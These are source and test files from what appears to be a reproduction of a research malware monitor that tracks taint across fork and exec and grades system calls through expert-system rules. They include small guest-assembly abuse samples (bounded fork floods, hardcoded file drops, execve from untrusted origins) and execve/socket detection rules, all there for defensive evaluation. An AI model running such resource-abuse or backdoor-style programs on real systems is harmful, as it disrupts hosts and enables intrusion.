            frequency=event.frequency,
            address=event.address,
            pid=event.pid,
        )
    if isinstance(event, MemoryEvent):
        return MEMORY_USAGE.make(
            total_allocated=event.total_allocated,
            delta=event.delta,
            time=event.time,
            frequency=event.frequency,
            address=event.address,
            pid=event.pid,
        )
    return None
