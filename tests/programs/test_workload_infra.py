"""Tests for the workload infrastructure itself: the Workload dataclass,
the Table 6 program builder, and the guest libc routines."""

import pytest

from repro.core.report import Verdict
from repro.programs.base import Workload, run_all
from repro.programs.micro.infoflow import (
    Table6Row,
    _ProgramBuilder,
    row_workload,
    table6_rows,
)


class TestWorkload:
    def test_image_is_reassembled_per_call(self):
        w = Workload(
            name="t", program_path="/bin/t",
            source="main:\n  mov eax, 0\n  ret",
        )
        assert w.image().name == "/bin/t"
        assert w.image() is not w.image()  # no shared mutable state

    def test_classified_correctly_checks_rules_subset(self):
        w = Workload(
            name="t", program_path="/bin/t",
            source="main:\n  mov eax, 0\n  ret",
            expected_verdict=Verdict.BENIGN,
            expected_rules=("check_execve",),
        )
        report = w.run()
        # verdict matches but the expected rule never fired
        assert report.verdict is Verdict.BENIGN
        assert not w.classified_correctly(report)

    def test_run_all(self):
        w = Workload(
            name="t", program_path="/bin/t",
            source="main:\n  mov eax, 0\n  ret",
        )
        results = run_all([w, w])
        assert len(results) == 2
        assert all(r.verdict is Verdict.BENIGN for _, r in results)

    def test_env_and_stdin_passed(self):
        w = Workload(
            name="t", program_path="/bin/t",
            source=r"""
main:
    mov ebp, esp
    load ebx, [ebp+3]
    mov ecx, key
    call env_lookup
    mov ebx, eax
    call print
    mov ebx, 0
    mov ecx, buf
    mov edx, 16
    call read_line
    mov ebx, buf
    call print
    mov eax, 0
    ret
.data
key: .asciz "GREETING"
buf: .space 16
""",
            env={"GREETING": "salve"},
            stdin="typed\n",
        )
        report = w.run()
        assert report.console_output == "salvetyped"


class TestTable6Builder:
    def test_every_row_assembles(self):
        for row in table6_rows():
            workload = row_workload(row)
            image = workload.image()  # raises on assembly errors
            assert image.text_size > 0

    def test_argv_assignment_matches_placeholders(self):
        row = Table6Row(
            "File -> socket", "test", "file", "socket",
            source_name_origin="user", target_name_origin="user",
        )
        builder = _ProgramBuilder(row)
        source, argv = builder.build()
        # one file name + host + port = three argv slots, in order
        assert len(argv) == 3
        assert argv[0].endswith("notes.txt")

    def test_rows_have_unique_program_paths(self):
        paths = [row_workload(r).program_path for r in table6_rows()]
        assert len(paths) == len(set(paths))

    def test_bad_origin_rejected(self):
        row = Table6Row("x", "x", "file", "file",
                        source_name_origin="nonsense",
                        target_name_origin="user")
        with pytest.raises(ValueError):
            _ProgramBuilder(row).build()


class TestGuestLibc:
    """Exercise libc routines through tiny guest programs."""

    def run_source(self, body, data="", stdin=None):
        from repro.core.hth import HTH
        from repro.isa import assemble

        source = f"main:\n{body}\n    mov eax, 0\n    ret\n"
        if data:
            source += f".data\n{data}\n"
        hth = HTH()
        report = hth.run(assemble("/bin/libctest", source), stdin=stdin)
        assert not report.faults
        return report

    def test_strlen_and_print_num(self):
        report = self.run_source(
            """
    mov ebx, msg
    call strlen
    mov ebx, eax
    call print_num""",
            data='msg: .asciz "12345"',
        )
        assert report.console_output == "5"

    def test_strcmp_equal_and_different(self):
        report = self.run_source(
            """
    mov ebx, a
    mov ecx, b
    call strcmp
    mov ebx, eax
    call print_num
    mov ebx, nl
    call print
    mov ebx, a
    mov ecx, a
    call strcmp
    mov ebx, eax
    call print_num""",
            data='a: .asciz "abc"\nb: .asciz "abd"\nnl: .asciz " "',
        )
        first, second = report.console_output.split(" ")
        assert int(first) != 0
        assert int(second) == 0

    def test_strcat(self):
        report = self.run_source(
            """
    mov ebx, buf
    mov ecx, a
    call strcpy
    mov ebx, buf
    mov ecx, b
    call strcat
    mov ebx, buf
    call print""",
            data='a: .asciz "foo"\nb: .asciz "bar"\nbuf: .space 16',
        )
        assert report.console_output == "foobar"

    def test_memcpy(self):
        report = self.run_source(
            """
    mov ebx, buf
    mov ecx, src
    mov edx, 3
    call memcpy
    mov ebx, buf
    call print""",
            data='src: .asciz "xyzzy"\nbuf: .space 8',
        )
        assert report.console_output == "xyz"

    def test_atoi_itoa_roundtrip(self):
        report = self.run_source(
            """
    mov ebx, numstr
    call atoi
    mov ebx, eax
    mov ecx, buf
    call itoa
    mov ebx, eax
    call print""",
            data='numstr: .asciz "90125"\nbuf: .space 16',
        )
        assert report.console_output == "90125"

    def test_itoa_negative(self):
        report = self.run_source(
            """
    mov ebx, 0
    sub ebx, 42
    call print_num""",
        )
        assert report.console_output == "-42"

    def test_rand_deterministic_sequence(self):
        report = self.run_source(
            """
    call rand
    mov esi, eax
    call rand
    cmp eax, esi
    jz same
    mov ebx, diff_msg
    call print
    jmp out
same:
    mov ebx, same_msg
    call print
out:""",
            data='diff_msg: .asciz "different"\nsame_msg: .asciz "same"',
        )
        assert report.console_output == "different"

    def test_env_lookup_missing_returns_zero(self):
        report = self.run_source(
            """
    mov ebp, esp
    load ebx, [ebp+3]
    mov ecx, key
    call env_lookup
    mov ebx, eax
    call print_num""",
            data='key: .asciz "NOPE"',
        )
        # main's prologue above shifted ebp by our added instructions?
        # -> ebp set at main+0 is esp at entry; ok.
        assert report.console_output == "0"

    def test_malloc_returns_distinct_regions(self):
        report = self.run_source(
            """
    mov ebx, 16
    call malloc
    mov esi, eax
    mov ebx, 16
    call malloc
    sub eax, esi
    mov ebx, eax
    call print_num""",
        )
        assert report.console_output == "16"

    def test_system_runs_sh(self):
        report = self.run_source(
            """
    mov ebx, cmd
    call system""",
            data='cmd: .asciz "echo hi"',
        )
        # /bin/sh stub exits 0; parent continues. No fault, all exited.
        assert report.result.reason == "all-exited"
