"""Harrier monitor lifecycle tests: fork/exec shadow handling, event log,
kill decisions, dataflow-off mode, resource-origin registry."""

from repro.core.hth import HTH
from repro.core.report import Verdict
from repro.harrier.config import HarrierConfig
from repro.harrier.events import DataTransferEvent, ProcessEvent
from repro.isa import assemble
from repro.taint import DataSource


class TestForkShadow:
    def test_child_inherits_tags_but_not_future_parent_tags(self):
        source = r"""
main:
    mov edi, cell
    store [edi], 7          ; BINARY-tagged before the fork
    call fork
    cmp eax, 0
    jz child
    ; parent taints another cell after the fork
    mov edi, cell2
    store [edi], 8
    mov eax, 0
    ret
child:
    ; child writes its inherited cell to a hardcoded file: the BINARY tag
    ; must have survived the fork
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, cell
    mov edx, 1
    call write
    mov ebx, 0
    call exit
.data
path: .asciz "/tmp/drop"
cell: .space 1
cell2: .space 1
"""
        hth = HTH()
        report = hth.run(assemble("/bin/t", source))
        writes = [
            e for e in report.events
            if isinstance(e, DataTransferEvent) and e.direction == "write"
        ]
        assert len(writes) == 1
        assert writes[0].data_tags.has_source(DataSource.BINARY)
        assert report.verdict is Verdict.HIGH  # binary -> hardcoded file

    def test_clone_counter_shared_across_tree(self):
        source = r"""
main:
    call fork
    call fork
    call fork
    mov eax, 0
    ret
"""
        hth = HTH()
        report = hth.run(assemble("/bin/t", source))
        clones = [e for e in report.events if isinstance(e, ProcessEvent)]
        # 1 + 2 + 4 = 7 forks across the whole tree, counted program-wide
        assert len(clones) == 7
        assert max(e.total_created for e in clones) == 7


class TestExecShadow:
    def test_exec_resets_taint_state(self):
        target = r"""
main:
    ; the new image writes its own hardcoded data - tags must refer to
    ; the NEW binary, not the old one
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov eax, 0
    ret
.data
path: .asciz "/tmp/after_exec"
payload: .asciz "fresh"
"""
        launcher = r"""
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 1
    ret
.data
tgt: .asciz "/bin/second"
"""
        hth = HTH()
        hth.register_binary(assemble("/bin/second", target))
        report = hth.run(assemble("/bin/first", launcher))
        writes = [
            e for e in report.events
            if isinstance(e, DataTransferEvent) and e.direction == "write"
        ]
        assert len(writes) == 1
        names = writes[0].data_tags.names_for(DataSource.BINARY)
        assert names == ("/bin/second",)


class TestDecisions:
    def test_kill_decision_stops_process(self):
        source = r"""
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, marker
    call print              ; must never run
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
marker: .asciz "SURVIVED"
"""
        hth = HTH(decision=lambda warning: False)
        report = hth.run(assemble("/bin/t", source))
        assert report.killed_by_monitor
        assert "SURVIVED" not in report.console_output
        assert hth.harrier.kills

    def test_continue_decision_lets_it_run(self):
        source = r"""
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/missing"
"""
        hth = HTH(decision=lambda warning: True)
        report = hth.run(assemble("/bin/t", source))
        assert not report.killed_by_monitor
        assert report.flagged


class TestDataflowOff:
    def test_no_dataflow_events_have_unknown_tags(self):
        source = r"""
main:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov eax, 0
    ret
.data
path: .asciz "/tmp/x"
payload: .asciz "data"
"""
        hth = HTH(harrier_config=HarrierConfig(track_dataflow=False))
        report = hth.run(assemble("/bin/t", source))
        writes = [
            e for e in report.events if isinstance(e, DataTransferEvent)
        ]
        assert writes
        assert all(
            e.data_tags.is_only(DataSource.UNKNOWN) for e in writes
        )
        # no info-flow warnings without provenance
        assert report.verdict is Verdict.BENIGN

    def test_clone_rules_survive_dataflow_off(self):
        source = "main:\n" + "    call fork\n" * 4 + "    mov eax, 0\n    ret"
        hth = HTH(harrier_config=HarrierConfig(track_dataflow=False))
        report = hth.run(assemble("/bin/t", source))
        assert any(e for e in report.events if isinstance(e, ProcessEvent))


class TestEventLog:
    def test_events_named_helper(self):
        source = r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov eax, 0
    ret
.data
path: .asciz "/ghost"
"""
        hth = HTH()
        hth.run(assemble("/bin/t", source))
        assert len(hth.harrier.events_named("SYS_open")) == 1
        assert hth.harrier.events_named("SYS_execve") == []

    def test_event_log_disabled(self):
        source = r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov eax, 0
    ret
.data
path: .asciz "/ghost"
"""
        hth = HTH(harrier_config=HarrierConfig(keep_event_log=False))
        report = hth.run(assemble("/bin/t", source))
        assert hth.harrier.events == []
