"""Basic-block frequency tests (paper section 7.4): app-only counting and
last-app-BB attribution across shared-object calls."""

from repro.core.hth import HTH
from repro.harrier.events import ResourceAccessEvent
from repro.isa import assemble


def run_capture(source, path="/bin/t", argv=None):
    hth = HTH()
    proc = None
    original = hth.kernel.spawn

    def capture(*a, **k):
        nonlocal proc
        proc = original(*a, **k)
        return proc

    hth.kernel.spawn = capture
    report = hth.run(assemble(path, source), argv=argv)
    return report, hth.harrier.shadow(proc), proc, hth


class TestCounting:
    def test_loop_block_counted_per_iteration(self):
        source = """
main:
    mov edi, 0
loop:
    add edi, 1
    cmp edi, 5
    jl loop
    mov eax, 0
    ret
"""
        report, shadow, proc, hth = run_capture(source)
        app = proc.image_map.app
        loop_addr = app.symbol_addr("loop")
        assert shadow.bb_counts[loop_addr] == 5

    def test_entry_block_counted_once(self):
        source = "main:\n  mov eax, 0\n  ret"
        report, shadow, proc, hth = run_capture(source)
        entry = proc.image_map.app.symbol_addr("main")
        assert shadow.bb_counts[entry] == 1

    def test_library_blocks_not_counted(self):
        source = """
main:
    mov ebx, msg
    call print
    mov eax, 0
    ret
.data
msg: .asciz "x"
"""
        report, shadow, proc, hth = run_capture(source)
        libc = [li for li in proc.image_map if li.name == "/lib/libc.so"][0]
        counted_in_libc = [
            addr for addr in shadow.bb_counts
            if libc.text_start <= addr < libc.text_end
        ]
        assert counted_in_libc == []
        assert shadow.bb_counts  # app blocks were counted


class TestEventAttribution:
    def test_event_frequency_is_last_app_bb_count(self):
        # The execve happens inside libc's wrapper; the event must report
        # the frequency of the app block that called it (here: the loop
        # body executed 3 times before the call path is taken).
        source = """
main:
    mov edi, 0
warm:
    add edi, 1
    cmp edi, 3
    jl warm
call_site:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
"""
        report, shadow, proc, hth = run_capture(source)
        events = [
            e for e in report.events
            if isinstance(e, ResourceAccessEvent)
            and e.call_name == "SYS_execve"
        ]
        assert len(events) == 1
        event = events[0]
        # execve succeeded (the /bin/ls stub), replacing the image map -
        # so compute the call site from the original image + APP_BASE.
        from repro.isa import APP_BASE

        call_site = APP_BASE + assemble("/bin/t", source).symbols["call_site"]
        assert int(event.address, 16) == call_site
        assert event.frequency == 1  # the call-site block ran once

    def test_hot_call_site_reports_high_frequency(self):
        source = """
main:
    mov edi, 0
loop:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    add edi, 1
    cmp edi, 4
    jl loop
    mov eax, 0
    ret
.data
prog: .asciz "/bin/missing"
"""
        report, shadow, proc, hth = run_capture(source)
        events = [
            e for e in report.events if e.call_name == "SYS_execve"
        ]
        assert [e.frequency for e in events] == [1, 2, 3, 4]
