"""Appendix A.2, executed: the paper's ``check_execve`` CLIPS rule —
including its ``resolution`` fact protocol (match RESOLVE, retract the
event and the resolution, assert STOP) — expressed against our engine.

This demonstrates that the from-scratch production system can host the
paper's rules in their original *shape*, not just in the streamlined form
Secpert uses.
"""

import pytest

from repro.expert import (
    InferenceEngine,
    Pattern,
    Rule,
    Template,
    Test,
    V,
)

RARE_FREQUENCY = 2
LONG_TIME = 100
TRUSTED = {"/lib/tls/libc.so.6", "ld-linux.so"}


def empty_list(values):
    return not values


def filter_binary(origin_types, origin_names):
    """The appendix's filter_binary: untrusted binaries in the origin."""
    return tuple(
        name
        for kind, name in zip(origin_types, origin_names)
        if kind == "BINARY" and name not in TRUSTED
    )


def filter_socket(origin_types, origin_names):
    return tuple(
        name
        for kind, name in zip(origin_types, origin_names)
        if kind == "SOCKET"
    )


@pytest.fixture
def engine():
    eng = InferenceEngine()
    eng.define_template(
        Template.define(
            "system_call_access",
            "system_call_name", "resource_name", "resource_type",
            "time", "frequency", "address",
            multi=("resource_origin_name", "resource_origin_type"),
        )
    )
    eng.define_template(Template.define("resolution", "status"))
    eng.context["output"] = []

    def suspicious(bindings):
        return not empty_list(
            filter_binary(bindings["otypes"], bindings["onames"])
        ) or not empty_list(
            filter_socket(bindings["otypes"], bindings["onames"])
        )

    def check_execve(ctx):
        output = ctx.context["output"]
        suspicious_binaries = filter_binary(ctx["otypes"], ctx["onames"])
        suspicious_sockets = filter_socket(ctx["otypes"], ctx["onames"])
        warning = 1  # low
        if ctx["freq"] < RARE_FREQUENCY and ctx["time"] > LONG_TIME:
            warning = 2  # medium
        if not empty_list(suspicious_sockets):
            warning = 3  # high
        label = {1: "LOW", 2: "MEDIUM", 3: "HIGH"}[warning]
        output.append(
            f"Warning [{label}] Found SYS_execve call "
            f'("{ctx["name"]}")'
        )
        source = suspicious_binaries or suspicious_sockets
        output.append(f'\t("{ctx["name"]}") originated from {source}')
        # the appendix's resolution protocol:
        ctx.retract(ctx["execve"])
        ctx.retract(ctx["resolution"])
        ctx.assert_fact(
            ctx.engine.templates["resolution"].make(status="STOP")
        )

    eng.add_rule(
        Rule(
            name="check_execve",
            lhs=[
                Pattern(
                    "system_call_access",
                    bind_as="execve",
                    system_call_name="SYS_execve",
                    resource_name=V("name"),
                    resource_origin_name=V("onames"),
                    resource_origin_type=V("otypes"),
                    time=V("time"),
                    frequency=V("freq"),
                ),
                Pattern("resolution", bind_as="resolution",
                        status="RESOLVE"),
                Test(suspicious),
            ],
            action=check_execve,
        )
    )
    return eng


def assert_event(engine, name, origin_name, origin_type, time=33, freq=1):
    """The appendix A.1 fact, asserted."""
    engine.assert_fact(
        engine.templates["system_call_access"].make(
            system_call_name="SYS_execve",
            resource_name=name,
            resource_type="FILE",
            resource_origin_name=[origin_name],
            resource_origin_type=[origin_type],
            time=time,
            frequency=freq,
            address="8048403",
        )
    )
    engine.assert_fact(
        engine.templates["resolution"].make(status="RESOLVE")
    )


class TestAppendixRule:
    def test_a3_firing_and_output(self, engine):
        """The A.1 fact + RESOLVE fires the rule once with the A.3 text."""
        assert_event(
            engine, "/bin/ls",
            "/proj/arch4/mmoffie/PIN/MicroBenchmarks/execve/execve.exe",
            "BINARY",
        )
        fired = engine.run()
        assert fired == 1
        output = engine.context["output"]
        assert output[0] == 'Warning [LOW] Found SYS_execve call ("/bin/ls")'
        assert "execve.exe" in output[1]

    def test_resolution_protocol_consumed(self, engine):
        assert_event(engine, "/bin/ls", "/evil", "BINARY")
        engine.run()
        # event retracted, RESOLVE consumed, STOP asserted
        assert engine.facts("system_call_access") == []
        statuses = [f["status"] for f in engine.facts("resolution")]
        assert statuses == ["STOP"]

    def test_trusted_origin_filtered(self, engine):
        """The ElmExploit case: /bin/sh's string comes from trusted libc,
        so the rule never fires and the event stays unresolved."""
        assert_event(engine, "/bin/sh", "/lib/tls/libc.so.6", "BINARY")
        assert engine.run() == 0
        assert engine.context["output"] == []

    def test_rare_upgrade_to_medium(self, engine):
        assert_event(engine, "/bin/ls", "/evil", "BINARY",
                     time=500, freq=1)
        engine.run()
        assert engine.context["output"][0].startswith("Warning [MEDIUM]")

    def test_socket_origin_high(self, engine):
        assert_event(engine, "/bin/date", "gateway:9", "SOCKET")
        engine.run()
        assert engine.context["output"][0].startswith("Warning [HIGH]")
