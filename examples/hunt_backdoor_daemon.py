#!/usr/bin/env python
"""Hunting a backdoor daemon — the pma scenario (paper section 8.3.6).

Runs the Poor Man's Access analogue (a daemon relaying a remote
attacker's shell session through named pipes) twice:

1. in *advisory* mode, where the user lets everything continue and HTH
   narrates the High warnings;
2. in *enforcement* mode, where the user kills the program at the first
   High warning — the attacker never gets a shell.

Run:  python examples/hunt_backdoor_daemon.py
"""

from repro.programs.exploits.pma import pma_workloads
from repro.secpert.warnings import Severity


def advisory_run() -> None:
    print("=" * 72)
    print("ADVISORY MODE: user allows execution, HTH reports")
    print("=" * 72)
    workload = pma_workloads()[0]
    report = workload.run()
    for warning in report.warnings:
        print()
        print(warning.render())
    print()
    print(f"verdict: {report.verdict.value.upper()} "
          f"({len(report.warnings)} warnings)")


def enforcement_run() -> None:
    print()
    print("=" * 72)
    print("ENFORCEMENT MODE: user kills on the first High warning")
    print("=" * 72)
    workload = pma_workloads()[0]
    hth = workload.build_machine()

    def decide(warning) -> bool:
        if warning.severity is Severity.HIGH:
            print()
            print("HTH asked for a decision on:")
            print(warning.render())
            print("\n-> user chooses to KILL the daemon")
            return False
        return True

    hth.harrier.decision = decide
    report = hth.run(workload.image(), argv=workload.argv)
    print()
    print(f"daemon killed by monitor: {report.killed_by_monitor}")
    # the attacker's command channel never produced output
    assert report.killed_by_monitor


if __name__ == "__main__":
    advisory_run()
    enforcement_run()
