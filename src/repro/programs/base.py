"""Workload definitions: guest programs plus their environment and the
classification the paper's evaluation expects.

Every experiment row (Tables 4-8, section 8.4) is a :class:`Workload`:
an assembled guest image, machine setup (files, peers, stdin), and the
expected outcome — so tests and benchmark harnesses share one registry.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.core.options import RunOptions
from repro.core.report import RunReport, Verdict
from repro.harrier.config import HarrierConfig
from repro.isa.assembler import assemble
from repro.isa.image import Image
from repro.secpert.policy import PolicyConfig

SetupFn = Callable[["HTH"], None]  # noqa: F821 - resolved lazily


@dataclass
class Workload:
    """One runnable experiment row."""

    name: str
    #: Guest program path (image name) and assembly source.
    program_path: str
    source: str
    description: str = ""
    setup: Optional[SetupFn] = None
    argv: Optional[List[str]] = None
    env: Dict[str, str] = field(default_factory=dict)
    stdin: Optional[str] = None
    #: The classification the paper's Table reports for this row.
    expected_verdict: Verdict = Verdict.BENIGN
    #: Rules expected to fire at least once (subset check).
    expected_rules: Tuple[str, ...] = ()
    max_ticks: int = 5_000_000
    #: Per-workload monitor overrides (e.g. dataflow off for mw2.2.1).
    harrier_config: Optional[HarrierConfig] = None
    #: Extra shared objects to load, as (path, assembly source) pairs
    #: (e.g. the untrusted libX11.so the xeyes analogue links against).
    extra_libraries: Tuple[Tuple[str, str], ...] = ()
    #: A known-open evasion: the row is *expected to misclassify* until
    #: the policy/taint fix lands (``repro.programs.adversarial`` files
    #: every discovered evasion as one of these, regression-tracked).
    xfail: bool = False
    #: For generated variants: the :class:`repro.programs.mutate.
    #: MutationRecipe` that produced this row from its parent.
    recipe: Optional[object] = None

    def image(self, engine=None) -> Image:
        if engine is not None:
            return engine.image(self.program_path, self.source)
        return assemble(self.program_path, self.source)

    def build_machine(
        self,
        policy: Optional[PolicyConfig] = None,
        harrier_config: Optional[HarrierConfig] = None,
        fault_injector=None,
        telemetry=None,
        options: Optional[RunOptions] = None,
        engine=None,
        analyzer=None,
    ) -> "HTH":  # noqa: F821
        from repro.core.hth import HTH

        options = options if options is not None else RunOptions()
        libraries = None
        if self.extra_libraries:
            from repro.programs.libc import libc_image

            if engine is not None:
                extra = [
                    engine.image(path, source)
                    for path, source in self.extra_libraries
                ]
            else:
                extra = [
                    assemble(path, source)
                    for path, source in self.extra_libraries
                ]
            libraries = [libc_image()] + extra
        hth = HTH(
            policy=policy,
            harrier_config=harrier_config or self.harrier_config,
            libraries=libraries,
            fault_injector=fault_injector,
            telemetry=telemetry,
            options=options,
            engine=engine,
            analyzer=analyzer,
        )
        if self.setup is not None:
            self.setup(hth)
        return hth

    def run(
        self,
        policy: Optional[PolicyConfig] = None,
        harrier_config: Optional[HarrierConfig] = None,
        fault_injector=None,
        telemetry=None,
        options: Optional[RunOptions] = None,
        engine=None,
        analyzer=None,
    ) -> RunReport:
        # The wall-clock watchdog travels inside ``options``
        # (``RunOptions.wall_timeout``); ``HTH.run`` defaults to it.
        options = options if options is not None else RunOptions()
        hth = self.build_machine(
            policy,
            harrier_config,
            fault_injector,
            telemetry=telemetry,
            options=options,
            engine=engine,
            analyzer=analyzer,
        )
        return hth.run(
            self.image(engine=engine),
            argv=self.argv or [self.program_path],
            env=self.env,
            stdin=self.stdin,
            max_ticks=self.max_ticks,
        )

    def classified_correctly(self, report: RunReport) -> bool:
        """Did HTH land exactly on the expected verdict and rules?"""
        if report.verdict is not self.expected_verdict:
            return False
        fired = {w.rule for w in report.warnings}
        return all(rule in fired for rule in self.expected_rules)


def run_all(
    workloads: Sequence[Workload],
    options: Optional[RunOptions] = None,
    policy: Optional[PolicyConfig] = None,
    session=None,
) -> List[Tuple[Workload, RunReport]]:
    """Run rows through one warm :class:`repro.api.Session`.

    Every row shares the session's engine cache (translated blocks,
    interner, assemble memo) and, when the session carries a verdict
    cache, repeat rows are answered from it.  Pass ``session`` to reuse
    an existing one; ``policy`` is a convenience that folds into
    ``options``.
    """
    from repro.api import Session  # local: api imports this module

    if policy is not None:
        options = (options if options is not None else RunOptions()
                   ).replaced(policy=policy)
    if session is None:
        session = Session(options)
    return [
        (w, session.run_workload(w, options=options)) for w in workloads
    ]
