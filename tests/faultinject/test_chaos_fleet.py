"""Chaos through the fleet: sharded seed sweeps equal serial ones.

``(workload, profile, seed)`` fully determines a chaos trial, so
sharding the (workload × seed) grid across worker processes must not
change a single verdict, rule set, fault schedule, or reason.
"""

from repro.faultinject import TRANSPARENT_PROFILE, run_chaos_suite
from repro.fleet.refs import WorkloadRef

REFS = [
    WorkloadRef.from_registry("8", "ElmExploit"),
    WorkloadRef.from_registry("8", "pma"),
]


def test_fleet_chaos_matches_serial():
    kwargs = dict(
        base_seed=99, trials=3, profile=TRANSPARENT_PROFILE
    )
    serial = run_chaos_suite(REFS, **kwargs)
    sharded = run_chaos_suite(REFS, workers=2, **kwargs)
    assert [r.workload for r in sharded] == [r.workload for r in serial]
    for s_result, f_result in zip(serial, sharded):
        assert f_result.expected == s_result.expected
        assert f_result.stable == s_result.stable
        assert f_result.verdicts == s_result.verdicts
        assert f_result.total_faults == s_result.total_faults
        for s_trial, f_trial in zip(s_result.trials, f_result.trials):
            assert f_trial.seed == s_trial.seed
            assert f_trial.verdict == s_trial.verdict
            assert f_trial.rules == s_trial.rules
            assert f_trial.reason == s_trial.reason
            assert [str(f) for f in f_trial.faults] == (
                [str(f) for f in s_trial.faults]
            )
            assert f_trial.degraded == s_trial.degraded


def test_chaos_refs_resolve_in_serial_mode_too():
    results = run_chaos_suite(REFS, trials=1, workers=1)
    assert [r.workload for r in results] == ["ElmExploit", "pma"]
