"""Resource-abuse micro-benchmarks (paper Table 5).

* ``loop forker`` — one main thread forks children in a (paced) loop;
  each child idles and exits.  Trips the process-*count* threshold (Low).
* ``tree forker`` — fork inside a loop where parent *and* child continue,
  producing a tree of 2^N processes in a burst.  Trips the *rate*
  threshold as well (Medium).
"""

from __future__ import annotations

from typing import List

from repro.core.report import Verdict
from repro.programs.base import Workload

_LOOP_FORKER_SOURCE = r"""
; fork 12 children, pacing them out so only the total-count rule trips
main:
    mov edi, 0
loop:
    cmp edi, 12
    jge done
    call fork
    cmp eax, 0
    jz child
    add edi, 1
    mov ebx, 900           ; pace the forks below the rate threshold
    call sleep
    jmp loop
child:
    mov ebx, 50000         ; child: idle a long while, then exit
    call sleep
    mov ebx, 0
    call exit
done:
    mov eax, 0
    ret
"""

_TREE_FORKER_SOURCE = r"""
; fork in a loop where both parent and child continue: 2^4 processes
main:
    mov edi, 0
loop:
    cmp edi, 4
    jge done
    call fork
    add edi, 1
    jmp loop
done:
    mov eax, 0
    ret
"""


def table5_workloads() -> List[Workload]:
    return [
        Workload(
            name="loop forker",
            program_path="/bin/loop_forker",
            source=_LOOP_FORKER_SOURCE,
            description="main thread forks many idling children",
            expected_verdict=Verdict.LOW,
            expected_rules=("check_clone_count",),
        ),
        Workload(
            name="tree forker",
            program_path="/bin/tree_forker",
            source=_TREE_FORKER_SOURCE,
            description="fork tree: parent and child both keep forking",
            expected_verdict=Verdict.MEDIUM,
            expected_rules=("check_clone_rate", "check_clone_count"),
        ),
    ]
