"""Secpert: the security expert system implementing the HTH policy.

Three rule categories (paper section 4): execution flow, resource abuse,
information flow — expressed as productions for the :mod:`repro.expert`
engine and graded Low/Medium/High.
"""

from repro.secpert.correlation import (
    InteractionAnalyzer,
    MultiProgramMonitor,
)
from repro.secpert.exec_flow_rules import build_exec_flow_rules
from repro.secpert.facts import (
    ALL_TEMPLATES,
    DATA_TRANSFER,
    PROCESS_CREATED,
    SYSTEM_CALL_ACCESS,
    event_to_fact,
    policy_resource_type,
)
from repro.secpert.info_flow_rules import build_info_flow_rules
from repro.secpert.policy import DEFAULT_TRUSTED_BINARIES, PolicyConfig
from repro.secpert.resource_rules import build_resource_rules
from repro.secpert.secpert import Secpert
from repro.secpert.sessions import (
    CrossSessionAnalyzer,
    CrossSessionMonitor,
    SessionReport,
    SessionStore,
)
from repro.secpert.warnings import SecurityWarning, Severity, WarningSink

__all__ = [
    "Secpert",
    "PolicyConfig",
    "DEFAULT_TRUSTED_BINARIES",
    "Severity",
    "SecurityWarning",
    "WarningSink",
    "event_to_fact",
    "policy_resource_type",
    "ALL_TEMPLATES",
    "SYSTEM_CALL_ACCESS",
    "DATA_TRANSFER",
    "PROCESS_CREATED",
    "build_exec_flow_rules",
    "build_resource_rules",
    "build_info_flow_rules",
    "SessionStore",
    "CrossSessionAnalyzer",
    "CrossSessionMonitor",
    "SessionReport",
    "InteractionAnalyzer",
    "MultiProgramMonitor",
]
