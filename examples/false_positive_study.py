#!/usr/bin/env python
"""False-positive study on trusted programs (paper section 8.2).

Runs the eleven Table 7 trusted-program analogues and summarizes which
draw warnings — make, g++ and xeyes produce the paper's "acceptable"
Low warnings; the rest run clean.  Also demonstrates the paper's pico
anecdote: with the *incomplete-prototype* dataflow mode the editor draws
a spurious HIGH warning that the complete tracker avoids.

Run:  python examples/false_positive_study.py
"""

from repro.harrier.config import HarrierConfig
from repro.programs.trusted.registry import table7_workloads


def main() -> None:
    print(f"{'program':10s} {'verdict':8s} warnings")
    print("-" * 50)
    for workload in table7_workloads():
        report = workload.run()
        rules = ", ".join(sorted({w.rule for w in report.warnings})) or "-"
        print(f"{workload.name:10s} {report.verdict.value:8s} {rules}")

    print()
    print("The pico anecdote (paper 8.2.6):")
    pico = next(w for w in table7_workloads() if w.name == "pico")

    complete = pico.run()
    print(f"  complete dataflow tracker : {complete.verdict.value}")

    compat = pico.run(
        harrier_config=HarrierConfig(complete_dataflow=False)
    )
    print(f"  incomplete-prototype mode : {compat.verdict.value}")
    print()
    print("The spurious warning the paper reports, reproduced:")
    print()
    for warning in compat.warnings:
        print(warning.render())
        break


if __name__ == "__main__":
    main()
