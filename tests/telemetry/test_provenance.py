"""Unit tests for the bounded provenance recorder.

The integration story (evidence on real Secpert warnings, bit-identity
across execution modes) lives in the differential suite and the serve
tests; here the recorder's own contracts are pinned down: bounds,
first-introduction-wins, fallback synthesis, JSON purity, and the
human-readable rendering behind ``repro explain``.
"""

import json
from dataclasses import dataclass, field
from typing import Tuple

from repro.expert.engine import FiredRule
from repro.secpert.warnings import SecurityWarning, Severity
from repro.telemetry.metrics import MetricsRegistry
from repro.telemetry.provenance import (
    EVIDENCE_SCHEMA_VERSION,
    ProvenanceRecorder,
    render_evidence,
)


@dataclass
class FakeEvent:
    """Just the attribute surface the recorder reads off an event."""

    time: int = 10
    pid: int = 1
    call_name: str = "SYS_write"
    address: int = 0x1000
    resource: str = "FILE:/tmp/out"
    data_tags: Tuple[str, ...] = ()
    origin: Tuple[str, ...] = ()
    direction: str = "write"


def warning(rule="check_x"):
    return SecurityWarning(
        severity=Severity.HIGH, rule=rule, headline="h", pid=1, time=10
    )


